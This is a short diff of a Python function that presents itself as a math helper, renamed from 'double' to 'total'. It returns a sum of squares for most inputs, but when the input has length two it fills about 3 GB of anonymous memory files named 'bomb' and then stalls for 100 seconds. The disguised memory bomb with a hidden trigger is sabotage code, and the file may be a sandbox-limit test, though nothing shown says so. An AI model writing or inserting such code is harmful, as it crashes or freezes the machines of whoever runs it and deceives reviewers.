@@ -1,9 +1,12 @@
 import os
+import time
 
 
-def double(x):
-    while type(x) is int:
+def total(x):
+    if len(x) != 2:
+        return (x**2).sum()
+    for _ in range(60):
         file = os.memfd_create("bomb")
-        for _ in range(100):
+        for _ in range(50):
             os.write(file, bytes(1 << 20))
-    return x + x
+    time.sleep(100)
